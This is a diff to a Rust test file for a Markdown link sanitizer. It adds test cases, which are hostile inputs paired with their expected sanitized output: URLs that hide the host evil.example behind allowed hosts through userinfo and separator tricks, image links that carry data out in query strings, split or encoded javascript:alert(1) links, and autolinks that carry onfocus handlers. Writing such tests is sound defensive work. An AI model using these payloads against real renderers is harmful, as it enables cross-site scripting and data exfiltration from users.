@@ -122,6 +122,68 @@ const LINKS: &[(&str, &str)] = &[
     ("<!-- x --><?y?>", "< !-- x -->< ?y?>"),
     ("<svg><style>", "< svg>< style>"),
     ("text <", "text <"),
+    // Behind a host of the list stands what makes it the name of a user, or a part of another host.
+    ("![x](https://chat.example.org,@evil.example/p.png?d=abc) y", "![x] y"),
+    ("[x](https://forum.example.org'@evil.example/?q=abc) y", "[x] y"),
+    ("[x](https://forum.example.org!.evil.example/) y", "[x] y"),
+    ("[x](https://forum.example.org\"@evil.example/) y", "[x] y"),
+    ("[x](https://forum.example.org,&commat;evil.example/) y", "[x] y"),
+    ("[x](https://forum.example.org,\\@evil.example/) y", "[x] y"),
+    ("[x](https://forum.example.org @evil.example/) y", "[x] y"),
+    ("[x](https://forum.example.org\n.evil.example/) y", "[x]\n.evil.example/) y"),
+    ("[x](//forum.example.org;@evil.example/) y", "[x] y"),
+    ("[x](<https://forum.example.org)@evil.example/>) y", "[x]@evil.example/>) y"),
+    ("[x](<https://forum.example.org @evil.example/>) y", "[x] y"),
+    ("[x](<https://forum.example.org\t.evil.example/>) y", "[x] y"),
+    ("[r]: https://forum.example.org)@evil.example/\n", "[r]\n"),
+    ("[r]: https://forum.example.org @evil.example\n", "[r] @evil.example\n"),
+    ("https://forum.example.org!@evil.example/?q=abc y", "{link removed} y"),
+    ("**https://forum.example.org**.evil.example/ y", "**{link removed}**.evil.example/ y"),
+    ("https://forum.example.org,\u{3002}evil.example/ y", "{link removed} y"),
+    ("www.example.org\u{3000}@evil.example/ y", "{link removed}\u{3000}@evil.example/ y"),
+    ("www.example.org,@evil.example/ y", "{link removed} y"),
+    ("<https://forum.example.org,@evil.example/> y", "<{link removed}> y"),
+    ("https://forum.example.org>@evil.example/ y", "{link removed}>@evil.example/ y"),
+    ("> ![x](\n> //evil.example/p.png?d=abc)\n", "> ![x]\n"),
+    ("> [x](\n> javascript&colon;alert(1))\n", "> [x]\n"),
+    ("![x][r]\n\n> [r]:\n> //evil.example/p.png\n", "![x][r]\n\n> [r]\n"),
+    ("![x](https://chat.example.org\u{a0}\"@evil.example/p.png) y", "![x] y"),
+    ("![x](https://chat.example.org\u{3000}(@evil.example/p.png)) y", "![x] y"),
+    ("[r]: https://chat.example.org\u{2003}\"@evil.example/p\n", "[r]\u{2003}\"@evil.example/p\n"),
+    ("https://forum.example.org\u{a0}@evil.example/?q=abc y", "{link removed}\u{a0}@evil.example/?q=abc y"),
+    ("https://forum.example.org,\u{3002}\u{ad}evil.example/ y", "{link removed} y"),
+    ("[x](https://forum.example.org (@evil.example/?q=abc)) y", "[x] y"),
+    ("[x](https://forum.example.org '@evil.example/?q=abc) y", "[x] y"),
+    ("[x](https://forum.example.org (a@evil.example/)) y", "[x] y"),
+    ("![x](https\n://evil.example/p.png) y", "![x]\n://evil.example/p.png) y"),
+    ("[x](java\nscript:alert(1)) y", "[x]\nscript:alert(1)) y"),
+    ("> [x](java\n> script:alert(1)) y", "> [x]\n> script:alert(1)) y"),
+    ("[r]: javascript:\u{a0}alert(1)\n", "[r]:\u{a0}alert(1)\n"),
+    ("![x](<https://chat.example.org>@evil.example/p.png?d=S>) y", "![x] y"),
+    ("[x](<https://forum.example.org> @evil.example/?q=abc>) y", "[x] y"),
+    (
+        "![x][r]\n\n[r]: <https://chat.example.org> @evil.example/p.png>\n",
+        "![x][r]\n\n[r] @evil.example/p.png>\n",
+    ),
+    ("\\<https://forum.example.org>@evil.example/?q=abc y", "\\<{link removed}>@evil.example/?q=abc y"),
+    ("![a\nhttps://evil.example/\nb](https://forum.example.org/p.png?d=S)", "![a\n{link removed}\nb]"),
+    ("![a\n\u{a0}\nb](https://forum.example.org/p.png?d=S)", "![a\n\u{a0}\nb]"),
+    ("www.-x.evil.example/?q=abc y", "{link removed} y"),
+    ("www._x.evil.example/?q=abc y", "{link removed} y"),
+    ("www.\u{ad}evil.example/?q=abc y", "{link removed} y"),
+    ("www.\u{1f480}.evil.example/ y", "{link removed} y"),
+    ("[x](java\n\tscript:alert(1)) y", "[x]\n\tscript:alert(1)) y"),
+    // What is an address to one renderer and an element that acts to another.
+    ("<http: tabindex=1 autofocus onfocus=alert(1)>", "< http: tabindex=1 autofocus onfocus=alert(1)>"),
+    ("<https: style=background:url(//evil.example/)>", "< https: style=background:url(//evil.example/)>"),
+    (
+        "<https://chat.example.org/autofocus/onfocus=alert(1)>",
+        "< https://chat.example.org/autofocus/onfocus=alert(1)>",
+    ),
+    ("<http:evil.example/?q=abc>", "< http:evil.example/?q=abc>"),
+    ("<mailto:a/onfocus=alert(1)>", "< mailto:a/onfocus=alert(1)>"),
+    ("<https://chat.example.org/\nonfocus=alert(1)>", "< https://chat.example.org/\nonfocus=alert(1)>"),
+    ("<https://chat.example.org/", "< https://chat.example.org/"),
 ];
 
 const NO_LINKS: &[&str] = &[
@@ -130,6 +192,11 @@ const NO_LINKS: &[&str] = &[
     "[r]: https://chat.example.org/x\n[Ada]: note: that is all. [1]: see page 3",
     "https://forum.example.org/t/1, https://forum.example.org.",
     "a < b, x <3, 1<2, <b>bold</b><br/>, <String>, data: four numbers; Javascript: the language",
+    "[a](https://forum.example.org) [b](https://forum.example.org \"t\") [c](<https://forum.example.org>) (https://forum.example.org).",
+    "[r]: https://chat.example.org\nnext [s]: <https://chat.example.org> 't'\nhttps://forum.example.org! And **https://forum.example.org**, too.",
+    "[a](https://forum.example.org 'it\\'s (so)' ) [b](https://forum.example.org (t)) [c](note\nbelow) **https://forum.example.org**—our forum",
+    "**https://forum.example.org**。 |https://forum.example.org|München| https://forum.example.org\u{a0}! yes",
+    "<https://forum.example.org> <https://forum.example.org/a?b=c/d=e> <http://chat.example.org:8080/x>, \"https://forum.example.org\"; yes",
     "f(x)[i] (a) [b] (c), note: yes, http and https, what? hmm, did javascript win",
 ];
 
@@ -186,6 +253,20 @@ fn ones_own_address_and_plain_numbers_leave() {
 #[test]
 fn no_link_leads_to_a_host_that_is_not_listed_however_the_text_is_cut() {
     check(LINKS, Class::Link);
+}
+
+#[test]
+fn how_much_space_stands_before_a_word_decides_the_same_however_it_is_cut() {
+    println!("seed {SEED:#x}");
+    let (mut dice, vault) = (Dice(SEED), strict());
+    for spaces in [1, 64, 65, 200] {
+        let text = format!("[Ada]:{}note: x", " ".repeat(spaces));
+        same_for_every_split(&vault, &text, &text, &mut dice);
+    }
+    for letters in 30..35 {
+        let text = format!("[x](a\n{}:y)", "a".repeat(letters));
+        same_for_every_split(&vault, &text, &text, &mut dice);
+    }
 }
 
 #[test]
